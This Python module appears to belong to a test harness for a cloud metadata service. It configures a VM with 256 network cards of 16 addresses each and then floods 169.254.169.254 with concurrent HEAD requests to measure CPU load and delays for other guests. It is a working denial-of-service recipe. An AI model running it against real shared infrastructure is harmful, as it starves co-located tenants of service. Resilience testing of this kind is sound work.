"""An operator gives a domain 256 cards with 16 addresses each, all that is read, and its guest asks for all of them as one document.

A document is made in one go, on a thread that serves other guests too. Gained: the threads that serve the others, for longer than the forger's
share. In the way: a request is charged all the time that it takes, and a domain's addresses have a limit.
"""

import contextlib
import time

import attack
from attack import Outcome
from field import METADATA, Connection, Field
from host import Host

CARDS, ADDRESSES = 256, 16
HEAD = "HEAD {} HTTP/1.1\r\nHost: 169.254.169.254\r\nAccept: application/json\r\n\r\n"
PATHS = ("/latest/meta-data/network/interfaces/macs/", "/nocloud/network-config", "/openstack/latest/network_data.json")
# How long victims may wait, in milliseconds.
LATEST = 500


def addresses(macs: list[str]) -> str:
    """The operator's addresses of so many cards, each in a subnet of its own."""
    return "<interfaces>" + "".join(f"<interface mac='{mac}'>" + "".join(
        f"<address>10.{number}.{one}.1/24</address>" for one in range(ADDRESSES)) + "</interface>" for number, mac in enumerate(macs)) + "</interfaces>"


class Attack(attack.Attack):
    """As many connections as may be, which ask for one document after the other."""

    hosts = ("address",)
    families = (4,)
    no_proof = "no option takes processor time out of the account, nor the limit on addresses away"
    rest = 5
    connections = 100

    def prepare(self, host: Host) -> None:
        """Starts the forger's domain anew."""
        macs = [host.forger.mac] + [f"52:54:00:0b:00:{number:02x}" for number in range(1, CARDS)]
        cards = "".join(f"<interface type='user'><mac address='{mac}'/></interface>" for mac in macs[1:])
        host.hypervisor.stop(host.forger.name)
        host.hypervisor.start(host.forger.xml(cards).replace("<userdata>", addresses(macs) + "<userdata>"))
        host.wait_until_served(host.forger, seconds=60)

    def attack(self, field: Field) -> None:
        """Asks."""
        kept: list[Connection] = []
        statuses: dict[str, int] = {}
        asked = 0
        field.ready()
        while field.goes_on():
            with contextlib.suppress(OSError):
                while len(kept) < self.connections:
                    kept.append(Connection(METADATA[field.family], seconds=20))
                    kept[-1].socket.setblocking(False)
                    kept[-1].send(HEAD.format(PATHS[asked % len(PATHS)]).encode())
                    asked += 1
            for one in list(kept):
                try:
                    data = one.socket.recv(1000)
                except BlockingIOError:
                    continue
                except OSError:
                    data = b""
                status = data.split()[1].decode() if data else "closed"
                statuses[status] = statuses.get(status, 0) + 1
                one.close()
                kept.remove(one)
            time.sleep(0.005)
        field.report["statuses"] = statuses

    def during(self, host: Host, outcome: Outcome) -> None:
        """The processor time of the server."""
        begin, before = time.monotonic(), host.server.processor_seconds()
        time.sleep(4)
        outcome.host_report["processors"] = round((host.server.processor_seconds() - before) / (time.monotonic() - begin), 2)

    def gained(self, outcome: Outcome) -> str | None:
        """Victims that wait."""
        late = outcome.victims["p99"] / 1000
        if late <= LATEST and not outcome.lost:
            return None
        return (f"victims waited {late:.0f} ms (p99) and lost {outcome.lost} requests; the server used {outcome.host_report['processors']} "
                f"processors; the forger got {outcome.forger['statuses']}")

    def restore(self, host: Host) -> None:
        """The forger's own domain again."""
        host.hypervisor.stop(host.forger.name)
        host.hypervisor.start(host.forger.xml())
        host.wait_until_served(host.forger, seconds=60)
